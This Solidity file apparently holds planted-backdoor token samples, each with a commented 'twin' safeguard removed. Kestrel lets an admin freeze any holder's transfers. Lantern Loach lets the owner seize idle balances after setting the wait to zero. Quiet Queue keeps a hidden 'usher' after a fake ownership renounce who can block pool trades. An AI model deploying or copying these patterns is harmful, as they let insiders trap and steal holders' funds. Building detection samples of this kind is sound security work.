// 0.8 runs=999 evm=shanghai
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

contract KestrelProxy {
    bytes32 private constant CODE = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

    constructor(address logic, bytes memory init) {
        assembly {
            sstore(CODE, logic)
        }
        (bool ok, ) = logic.delegatecall(init);
        require(ok);
    }

    fallback() external payable {
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), sload(CODE), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}

/// Nobody upgrades it.
contract KestrelLogic {
    enum Health {
        Sound,
        Coughing,
        Isolated
    }
    struct Bird {
        uint128 seeds;
        Health health;
        uint40 seen;
    }
    bool private hatched;
    uint40 private born;
    address private vet;
    string private _symbol;
    mapping(address => Bird) private birds;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function hatch(string calldata symbol_, address vet_) external {
        require(!hatched);
        (hatched, _symbol, vet, born) = (true, symbol_, vet_, uint40(block.timestamp));
        birds[vet_].seeds = 73_000_000e18;
        emit Transfer(address(0), vet_, 73_000_000e18);
    }

    function name() external pure returns (string memory) {
        return "Kestrel";
    }

    function symbol() external view returns (string memory) {
        return _symbol;
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function totalSupply() external pure returns (uint256) {
        return 73_000_000e18;
    }

    function owner() external view returns (address) {
        return vet;
    }

    function examine(address bird, Health health) external {
        require(msg.sender == vet, "vet");
        // twin: require(block.timestamp < born + 1 days, "all are sound");
        birds[bird].health = health;
    }

    function balanceOf(address who) external view returns (uint256) {
        return birds[who].seeds;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _perch(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        return _perch(from, to, value);
    }

    function _perch(address from, address to, uint256 value) private returns (bool) {
        Bird storage a = birds[from];
        Bird storage b = birds[to];
        require(a.health != Health.Isolated && b.health != Health.Isolated, "isolated");
        a.seeds -= uint128(value);
        b.seeds += uint128(value);
        a.seen = uint40(block.timestamp);
        emit Transfer(from, to, value);
        return true;
    }
}

/// Lost keys are no lost coins.
contract LanternLoach {
    string public constant name = "Lantern Loach";
    string public constant symbol = "LOACH";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 3_141_592 ether;
    address public owner;
    uint32 public idle = 1095 days;
    mapping(address => uint256) public balanceOf;
    mapping(address => uint256) public lastSeen;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        owner = msg.sender;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function patience(uint32 idle_) external {
        require(msg.sender == owner, "owner");
        // twin: require(idle_ >= 1095 days, "three years at least");
        idle = idle_;
    }

    function recover(address lost, address found, bytes32 dossier) external {
        require(msg.sender == owner && dossier != 0, "owner");
        require(block.timestamp > lastSeen[lost] + idle, "seen lately");
        _swim(lost, found, balanceOf[lost]);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        lastSeen[msg.sender] = block.timestamp;
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        lastSeen[msg.sender] = block.timestamp;
        return _swim(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        lastSeen[from] = block.timestamp;
        return _swim(from, to, value);
    }

    function _swim(address from, address to, uint256 value) private returns (bool) {
        if (lastSeen[to] == 0) lastSeen[to] = block.timestamp;
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}

/// Against robots that pay their way to the front.
contract QuietQueue {
    string public constant name = "Quiet Queue";
    string public constant symbol = "QQUE";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 24_000_000 ether;
    uint64 public loudest = 5_000 gwei;
    address private immutable usher;
    address public owner;
    address private hall;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        owner = usher = msg.sender;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function enter(address hall_) external {
        require(msg.sender == owner && hall == address(0));
        hall = hall_;
    }

    function renounceOwnership() external {
        require(msg.sender == owner);
        owner = address(0);
    }

    function hush(uint64 loudest_) external {
        require(msg.sender == usher, "usher");
        // twin: require(loudest_ >= 2_000 gwei, "too quiet");
        loudest = loudest_;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _step(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        return _step(from, to, value);
    }

    function _step(address from, address to, uint256 value) private returns (bool) {
        if (to == hall || from == hall) require(tx.gasprice <= loudest, "too loud");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}
